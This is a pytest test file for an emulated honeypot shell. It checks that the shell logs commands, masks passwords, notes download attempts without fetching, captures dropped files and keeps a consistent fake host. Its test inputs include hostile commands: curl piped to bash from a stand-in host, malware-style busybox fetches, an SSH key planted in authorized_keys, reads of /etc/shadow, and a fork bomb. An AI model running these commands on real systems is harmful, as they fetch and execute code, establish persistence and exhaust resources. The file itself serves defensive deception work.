"""The emulated shell: what it notes, what it keeps, what it bears, and that its stories agree."""

import re
from functools import partial

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.events import CredentialOffered, DownloadRequested, FileCaptured, ForwardRequested, LimitHit
from decnet.kit.shell.commands import COMMANDS
from decnet.kit.shell.dialect import ASH, BASH, DASH, Dialect, Mistake
from decnet.kit.shell.elision import elide
from decnet.kit.shell.image import image
from decnet.kit.shell.parser import parse
from decnet.kit.shell.regex import TooHard, Unreadable, regex
from decnet.kit.shell.tasks import SLICE
from tests.shells import XTERM, Visitor, run, said, visit
from tests.support import work
from tests.transcripts import Overlay

EVERY_SYSTEM = pytest.mark.parametrize("distro", ["debian", "ubuntu22", "ubuntu20", "embedded"])


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("uname -a", "read"),
        ("cat /etc/passwd | grep root", "read"),
        ("ls > /dev/null 2>&1", "read"),
        ("dd bs=52 count=1 if=/bin/ls", "read"),
        ("crontab -l", "read"),
        ("echo x > /tmp/y", "write"),
        ("for i in 1 2; do rm -f /tmp/$i; done", "write"),
        ("x=$(mkdir /tmp/z)", "write"),
        ("sudo useradd eve", "write"),
        ("wget http://192.0.2.9/a", "write"),
        ("/tmp/nothing", "execute"),
        ("cd /tmp && ./bot", "execute"),
        ("curl -s http://192.0.2.9/a | bash", "execute"),
        ("busybox sh x", "execute"),
        ("python3 -c 'print(1)'", "execute"),
        ('eval "$(echo ls)"', "execute"),
    ],
)
def test_a_line_is_noted_with_what_it_would_do(line: str, effect: str) -> None:
    assert run(line).lines == [(line, effect)]


def test_an_effect_is_also_what_turned_out() -> None:
    """Nothing in the line itself says that it writes or executes."""
    assert run("x=touch; $x /tmp/y").lines[0][1] == "write"
    overlay = Overlay()
    run("echo 'echo hi' > /usr/local/bin/tool; chmod +x /usr/local/bin/tool", overlay=overlay)
    assert run("tool", overlay=overlay).lines == [("tool", "execute")]


@pytest.mark.parametrize(
    ("line", "noted"),
    [
        ("echo root:hunter22 | chpasswd", "echo root:*** | chpasswd"),
        ("echo 'hunter22' | passwd --stdin root", "echo '***' | passwd --stdin root"),
        ('echo -e "hunter22\\nhunter22" | passwd', 'echo -e "***" | passwd'),
        ("echo hunter22 | sudo -S id", "echo *** | sudo -S id"),
        ("mysql -uroot -phunter22 -e 'show databases'", "mysql -uroot -p*** -e 'show databases'"),
        ("curl -u joe:hunter22 http://192.0.2.9/", "curl -u joe:*** http://192.0.2.9/"),
        ("wget http://joe:hunter22@192.0.2.9/x", "wget http://joe:***@192.0.2.9/x"),
        ("wget --password=hunter22 http://192.0.2.9/x", "wget --password=*** http://192.0.2.9/x"),
        ("sshpass -p hunter22 ssh joe@192.0.2.9", "sshpass -p *** ssh joe@192.0.2.9"),
        ("MYSQL_PWD=hunter22 mysql", "MYSQL_PWD=*** mysql"),
        ("redis-cli -a hunter22 ping", "redis-cli -a *** ping"),
        ("ftpget -u joe -p hunter22 192.0.2.9 a b", "ftpget -u joe -p *** 192.0.2.9 a b"),
        ("echo password; ls -p /tmp", "echo password; ls -p /tmp"),
    ],
)
def test_secrets_are_elided(line: str, noted: str) -> None:
    assert elide(line) == noted
    facts = run(line).facts
    assert "hunter22" not in repr(facts)


def test_a_password_that_was_set_is_the_one_that_works() -> None:
    overlay = Overlay()
    visitor = run("echo root:Nightfall7 | chpasswd; tail -c 1 /etc/shadow", overlay=overlay)
    (offered,) = visitor.told(CredentialOffered)
    assert (offered.principal, offered.secret.reveal(), offered.mechanism) == (b"root", b"Nightfall7", "passwd")
    assert overlay.get("login.root") == b"Nightfall7"


@pytest.mark.parametrize(
    ("line", "url", "tool"),
    [
        ("wget -q http://192.0.2.9/a.sh -O /tmp/a", b"http://192.0.2.9/a.sh", "wget"),
        ("curl -fsSL 192.0.2.9/b", b"http://192.0.2.9/b", "curl"),
        ("busybox wget http://192.0.2.9:8080/c", b"http://192.0.2.9:8080/c", "wget"),
        ("busybox tftp -g -l x -r d.arm 192.0.2.9", b"tftp://192.0.2.9/d.arm", "tftp"),
        ("busybox ftpget -v -u anonymous 192.0.2.9 e e", b"ftp://192.0.2.9/e", "ftpget"),
        ("(wget http://evil.example/f || curl -O http://evil.example/f)", b"http://evil.example/f", "wget"),
    ],
)
def test_what_should_be_fetched_is_noted_and_nothing_is(line: str, url: bytes, tool: str) -> None:
    visitor = run(line)
    assert (visitor.told(DownloadRequested)[0].url, visitor.told(DownloadRequested)[0].tool) == (url, tool)
    assert visitor.status not in (None, 0)
    assert visitor.files == {}


def test_connections_elsewhere_are_noted() -> None:
    (fact,) = run("ssh -p 2222 root@192.0.2.77 id").told(ForwardRequested)
    assert (fact.direction, fact.host, fact.port) == ("out", b"192.0.2.77", 2222)


def test_files_are_kept_once_they_are_finished() -> None:
    visitor = Visitor(window=XTERM)
    visitor.press("cd /tmp; echo -ne '\\x7fELF' > bot\r")
    visitor.press("echo -ne 'rest' >> bot\r")
    assert visitor.files == {}
    visitor.press("chmod +x bot\r")
    assert list(visitor.files.values()) == [b"\x7fELFrest"]
    assert [fact.path for fact in visitor.told(FileCaptured)] == [b"/tmp/bot"]
    visitor.press("./bot; echo 'echo later' > script\r")
    assert len(visitor.files) == 1
    visitor.wait()
    assert list(visitor.files.values())[1:] == [b"echo later\n"]
    visitor.press("echo x >> script; rm script; exit\r")
    assert list(visitor.files.values())[2:] == [b"echo later\nx\n"]
    assert visitor.status == 0


def test_what_is_too_big_to_be_remembered_is_kept_whole_all_the_same() -> None:
    class Small(Overlay):
        def put(self, key: str, value: bytes) -> bool:
            return len(value) < 50_000 and super().put(key, value)

    overlay, data = Small(), b"\x7fELF" + b"\7" * 200_000
    visitor = Visitor("cat > /tmp/miner; chmod +x /tmp/miner; wc -c /tmp/miner", stdin=data, overlay=overlay)
    assert (visitor.files, visitor.out) == ({1: data}, b"200004 /tmp/miner\n")
    assert run("ls -l /tmp/miner", overlay=overlay).out.startswith(b"-rwxr-xr-x 1 root root 200004 ")


def test_what_comes_on_standard_input_is_kept() -> None:
    visitor = Visitor("cat > /tmp/.x && chmod 755 /tmp/.x; sh", stdin=b"\0\1\2" * 50_000)
    assert visitor.files == {1: b"\0\1\2" * 50_000}
    assert visitor.told(FileCaptured)[0].size == 150_000


def test_a_script_on_standard_input_is_a_series_of_commands() -> None:
    visitor = Visitor("bash -s", stdin=b"cd /tmp\nfor i in 1 2\ndo echo $i\ndone\nfoo\nexit 3\necho never\n")
    assert (visitor.out, visitor.err, visitor.status) == (b"1\n2\n", b"bash: line 5: foo: command not found\n", 3)
    lines = [line for line, _ in visitor.lines]
    assert lines == ["bash -s", "cd /tmp", "for i in 1 2\ndo echo $i\ndone", "foo", "exit 3"]


def test_what_a_peer_left_is_there_when_he_comes_back() -> None:
    overlay = Overlay()
    run("mkdir /opt/.k; echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys; rm /etc/motd", overlay=overlay)
    again = run("ls -d /opt/.k; cat ~/.ssh/authorized_keys; ls /etc/motd; stat -c %a /root/.ssh", overlay=overlay)
    assert again.out == b"/opt/.k\nssh-rsa AAAA x\n700\n"
    assert said("ls /opt") == ""


def test_permissions_hold() -> None:
    user = visit().persona.accounts[1].name
    assert said("cat /etc/shadow", user=user) == "cat: /etc/shadow: Permission denied\n"
    assert said("echo x > /etc/passwd", user=user) == "bash: line 1: /etc/passwd: Permission denied\n"
    assert "Permission denied" in said("ls /root", user=user)
    assert said("rm -f /tmp/../etc/hosts; echo $?", user=user).startswith("1\n")
    assert (
        said("touch ~/a && stat -c '%U %a' ~/a; id -un; echo $HOME", user=user) == f"{user} 644\n{user}\n/home/{user}\n"
    )


@EVERY_SYSTEM
def test_a_host_tells_one_story(distro: str) -> None:
    release, version = said("uname -r", distro).strip(), said("uname -v", distro).strip()
    assert said("uname -a", distro).startswith(f"Linux srv-01 {release} {version} ")
    assert release in said("cat /proc/version", distro)
    assert version in said("cat /proc/version", distro)
    assert said("hostname; cat /etc/hostname; cat /proc/sys/kernel/hostname", distro) == "srv-01\n" * 3
    cores = said("grep -c ^processor /proc/cpuinfo", distro)
    assert cores == said("nproc || echo 1", distro if distro != "embedded" else "debian") or distro == "embedded"
    total = re.search(r"MemTotal: +(\d+)", said("cat /proc/meminfo", distro))
    assert total is not None
    assert f" {total.group(1)} " in said("free", distro)
    assert said("id", distro).startswith("uid=0(root) gid=0(root)")
    assert said("whoami; echo ~; pwd", distro) == "root\n/root\n/root\n"
    assert "198.51.100.7" in said("ifconfig", distro)
    passwd = said("cut -d: -f1 /etc/passwd", distro).split()
    assert {account.name for account in visit(distro, _role(distro)).persona.accounts} <= set(passwd)
    assert said("echo $((5 * 7)) $(echo a) `echo b`; [ 1 -lt 2 ] && echo yes", distro) == "35 a b\nyes\n"


def _role(distro: str) -> str:
    return "iot-device" if distro == "embedded" else "linux-server"


@EVERY_SYSTEM
def test_every_program_that_is_there_runs(distro: str) -> None:
    nodes = image(visit(distro, _role(distro)).persona.claim).nodes
    programs = {node.program for node in nodes.values() if node.program}
    assert programs <= COMMANDS.keys() | {"busybox"}
    names = sorted(path.rsplit("/", 1)[-1] for path in nodes if re.match(r"/(usr/)?s?bin/", path))
    assert len(names) > 200
    for name in names:
        visitor = Visitor(f"{name} < /dev/null", distro=distro).wait(2)
        assert b"not found" not in visitor.err, name


def test_unknown_commands_in_the_words_of_each_shell() -> None:
    assert said("foo") == "bash: line 1: foo: command not found\n"
    assert said("foo", "ubuntu20") == "bash: foo: command not found\n"
    assert said("sh -c foo") == "sh: 1: foo: not found\n"
    assert said("foo", "embedded") == "sh: foo: not found\n"
    for distro, shown in (("debian", "-bash: foo: command not found"), ("embedded", "-sh: foo: not found")):
        assert shown in Visitor(distro=distro, window=XTERM).press("foo\r")
    assert said("/bin/busybox ECCHI", "embedded") == "ECCHI: applet not found\n"


@pytest.mark.parametrize(
    ("line", "steps"),
    [
        ("while true; do :; done", None),
        ("while :; do echo x; done", None),
        ("yes", None),
        ("cat /dev/zero", None),
        ("f() { f; }; f", 139),
        ("f() { f | f & }; f", 0),
        (":(){ :|:& };:", 0),
        ('bash -c \'eval "$0"\' \'bash -c "$0" "$0"\'', 254),
        ("x=a; while true; do x=$x$x; done", 2),
        ("echo {1..99999}{1..99999}", 1),
        ("echo " + "(" * 3000, 2),
        ("echo " + "$(" * 500 + "echo" + ")" * 500, 2),
        ("echo $((" + "(" * 400 + "1" + ")" * 400 + "))", 1),
        ("x=1; " + "if true; then " * 200 + "echo" + "; fi" * 200, 2),
        ("[[ " + "( " * 300 + "a" + " )" * 300 + " ]]", None),
        ("echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+$b'", 1),
        ("printf '%999999999d' 1 | wc -c", 0),
        ("seq 1 1000000000 | tail -1", None),
        ("awk 'BEGIN{while(1)x++}'", 0),
        ("echo x | sed ':a;s/x/xx/;ta' | wc -c", 0),
        ("find / | xargs cat | md5sum", None),
        ("echo '$0 &' > /tmp/b; echo '$0 &' >> /tmp/b; chmod +x /tmp/b; /tmp/b", 0),
    ],
)
def test_no_line_is_ever_too_much(line: str, steps: int | None) -> None:
    """Each turn is bounded work, whatever the line; what never ends goes on ever more slowly."""
    visitor = Visitor(line)
    most = 0
    for _ in range(14):
        if visitor.status is not None:
            break
        most = max(most, work(lambda: visitor.wait(1)))
    assert most < SLICE * 400
    assert len(visitor.out) < 4 << 20
    if steps is not None:
        assert visitor.status == steps


def test_what_never_ends_is_a_limit_and_can_be_interrupted() -> None:
    visitor = Visitor(window=XTERM)
    visitor.press("while true; do echo -n; done\r")
    before = visitor.now
    visitor.wait(60)
    assert [fact.limit for fact in visitor.told(LimitHit)] == ["shell.work"]
    assert visitor.now - before > 60_000_000
    assert visitor.press("\x03").endswith("root@srv-01:~# ")
    assert "hello" in visitor.press("echo hello\r")


@settings(max_examples=150)
@given(
    text=st.text(
        st.sampled_from("echo $`(){}[]|&;<>\"'\\\n\t#!*?~=+-if then fi do done case esac for 01"), max_size=120
    )
)
def test_no_text_makes_a_shell_raise(text: str) -> None:
    for distro in ("debian", "embedded"):
        Visitor(text, distro=distro, stdin=b"x\ny\n").wait(3)
    Visitor(window=XTERM).press(text + "\r")


@given(text=st.binary(max_size=200))
def test_no_keys_make_a_terminal_raise(text: bytes) -> None:
    visitor = Visitor(window=XTERM)
    visitor.press(text.decode("latin-1"))
    visitor.leave()
    assert visitor.status is not None


@pytest.mark.parametrize(
    "text", ["(", "{ ", "$(", "`", '"$(', "${x:-", "if ", "a;", "x y\n", "'a'", "<<E\n", "\\", "# c\n"]
)
def test_parsing_is_linear(text: str) -> None:
    def attempt(count: int, kind: Dialect) -> None:
        try:
            parse(text * count, kind)
        except Mistake:
            return

    for kind in (BASH["debian"], DASH, ASH):
        few, many = (work(partial(attempt, count, kind)) for count in (400, 1600))
        assert many < 4.6 * few + 2_000


def test_patterns_cost_linear_time() -> None:
    """Backtracking would take for ever on any of these."""
    for pattern in ("(a*)*b", "(a|aa)+$c", "a?" * 25 + "a" * 25, "(.*)(.*)(.*)(.*)(.*)x"):
        assert work(partial(regex(pattern, extended=True).search, "a" * 200)) < 2_000_000
    with pytest.raises(Unreadable):
        regex("a" * 10_000, extended=True)
    with pytest.raises(TooHard):
        regex("((((a{1,99}){1,99}){1,99}){1,99})b", extended=True).search("a" * 500)


def test_a_conversation_at_the_prompt() -> None:
    visitor = Visitor(window=XTERM)
    assert "Last login: " in visitor.out.decode()
    assert visitor.press("ech\t'a b'\r").endswith("a b\r\n\x1b[?2004hroot@srv-01:~# ")
    assert "> " in visitor.press("if true\r")
    assert "yes\r\n" in visitor.press("then echo yes; fi\r")
    assert visitor.press("cat <<E\r").endswith("> ")
    assert visitor.press("x\rE\r").count("x\r\n") == 2
    visitor.press("echo abandoned \x03")
    assert "syntax error near unexpected token `)'" in visitor.press("echo )\r")
    assert "sleep 60 &" in visitor.press("sleep 60 &\rjobs\r")
    assert visitor.press("\x1b[A\x1b[A").endswith("sleep 60 &")
    assert visitor.press("\x15exit\r").rstrip().endswith("logout")
    assert visitor.status == 0
    assert [line for line, _ in visitor.lines] == [
        "echo 'a b'", "if true\nthen echo yes; fi", "cat <<E\nx\nE", "echo abandoned ", "echo )", "sleep 60 &", "jobs",
        "exit",
    ]  # fmt: skip


def test_typing_ahead_is_not_lost() -> None:
    visitor = Visitor(window=XTERM)
    visitor.press("sleep 5\recho one\rtouch /tmp/two\rls /tm")
    assert "one" not in visitor.out.decode().split("sleep 5", 1)[1].replace("echo one", "")
    visitor.wait(1)
    visitor.press("p\r")
    assert "two" in visitor.out.decode().rsplit("ls /tmp", 1)[1]
    visitor.press("sleep 50\recho unseen\r")
    visitor.vanish()
    assert visitor.lines[-2:] == [("sleep 50", "read"), ("echo unseen", "read")]


def test_secrets_at_the_terminal_are_neither_shown_nor_recorded() -> None:
    visitor = Visitor(window=XTERM, user=visit().persona.accounts[1].name)
    visitor.press("sudo -i\r")
    visitor.press("correct horse\r")
    typed = b"".join(record.data for record in visitor.recorded)
    assert b"correct horse" not in typed + visitor.out
    assert b"sudo -i" in typed
    (offered,) = visitor.told(CredentialOffered)
    assert (offered.mechanism, offered.secret.reveal()) == ("sudo", b"correct horse")


def test_another_account_by_its_password() -> None:
    user = visit().persona.accounts[2].name
    visitor = Visitor(window=XTERM, user=user)
    visitor.press("su -\r")
    visitor.press("123456\r")
    assert "uid=0(root)" in visitor.press("id; cat /etc/shadow | head -1\r")
    visitor.press("exit\r")
    assert f"({user})" in visitor.press("id\r")
    visitor.press("sudo ls\r")
    assert "not in the sudoers file" in visitor.press("123456\r") + visitor.wait(3).out.decode()


def test_a_resize_is_seen_and_recorded() -> None:
    visitor = Visitor(window=XTERM)
    visitor._take(visitor.shell.resized(132, 50, visitor.now))
    assert visitor.recorded[-1].data == b"132x50"
    assert "50 132" in visitor.press("stty size\r")


def test_written_bytes_have_a_bound() -> None:
    visitor = run("dd if=/dev/zero of=/tmp/big bs=1M count=64; ls -l /tmp/big | wc -l")
    assert b"No space left on device" in visitor.err
